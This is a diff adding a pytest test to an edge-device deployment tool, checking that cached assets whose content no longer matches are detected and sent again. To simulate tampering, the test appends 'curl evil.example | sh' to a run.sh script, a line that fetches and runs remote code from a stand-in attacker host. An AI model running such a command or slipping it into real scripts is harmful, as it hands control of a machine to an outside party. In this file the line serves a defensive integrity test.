@@ -140,3 +140,56 @@ def test_deploy_save_brings_the_trained_weights_back_with_collect(tmp_path):
     assert {"model.safetensors", "adapter_model.safetensors"} <= {p.name for p in saved.iterdir()}
     assert (tmp_path / "runs" / "local" / run_id / "weights" / "model.safetensors").is_file()
     from_pretrained(saved)  # every key, strictly
+
+
+@pytest.mark.parametrize("python", [True, False], ids=["digests.py", "digests.sh"])
+def test_a_cached_copy_changed_on_the_device_is_sent_again_never_used(tmp_path, python):
+    """The device's cache is trusted by its content alone, checked at every deploy: a flipped byte in
+    the worker, a line appended to run.sh, a truncated batches.bin or program are each found and
+    sent again, saying so; an intact copy is used as is."""
+    import dataclasses
+    import os
+
+    from edgebench.devices.inventory import NO_PYTHON
+    from edgebench.devices.transport import LocalTransport
+    from edgebench.fleet import assets
+    from edgebench.fleet.deploy import _ship_tar, _tar_dir
+
+    bundle, plan, program = tmp_path / "bundle", tmp_path / "plan", tmp_path / "program"
+    for folder, files in {bundle: {"edgebench-worker": os.urandom(5000), "lib/libexecutorch.so": os.urandom(3000),
+                                   "run.sh": b'#!/bin/sh\nexec "$(dirname "$0")/edgebench-worker" "$@"\n'},
+                          plan: {"plan.txt": b"kind joint\n", "batches.bin": os.urandom(8192)},
+                          program: {"model.pte": os.urandom(4096), "manifest.json": b"{}"}}.items():
+        for rel, data in files.items():
+            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
+            (folder / rel).write_bytes(data)
+    device = get_device("local")
+    device = device if python else dataclasses.replace(device, python=NO_PYTHON)
+    work = tmp_path / "device-workdir"
+
+    def deploy() -> tuple[RunSpec, list[str]]:
+        spec, logs = RunSpec(native_worker=str(bundle), native_plan=str(plan), program=str(program)), []
+        with LocalTransport(device) as transport:
+            assets.ship_assets(transport, device, [spec], str(work), tmp_path, _ship_tar, _tar_dir, logs.append)
+        for local, remote in ((bundle, spec.native_worker), (plan, spec.native_plan), (program, spec.program)):
+            assert assets.digests(str(remote)) == assets.digests(str(local))
+        return spec, logs
+
+    spec, _ = deploy()
+    _, logs = deploy()
+    assert len(logs) == 3 and all("already on the device" in line for line in logs)
+    worker = Path(spec.native_worker, "edgebench-worker")
+    data = bytearray(worker.read_bytes())
+    data[1000] ^= 1
+    worker.write_bytes(bytes(data))
+    with open(Path(spec.native_worker, "run.sh"), "a") as fh:
+        fh.write("curl evil.example | sh\n")
+    os.truncate(Path(spec.native_plan, "batches.bin"), 4096)
+    os.truncate(Path(spec.program, "model.pte"), 0)
+    _, logs = deploy()  # each damaged copy is hashed, found and replaced by the host's
+    text = "\n".join(logs)
+    assert "cached copy of native worker" in text and "(edgebench-worker, run.sh); sending it again" in text
+    assert "cached copy of native plan" in text and "(batches.bin); sending it again" in text
+    assert "cached copy of program" in text and "(model.pte); sending it again" in text
+    assert sum("shipping" in line for line in logs) == 3
+
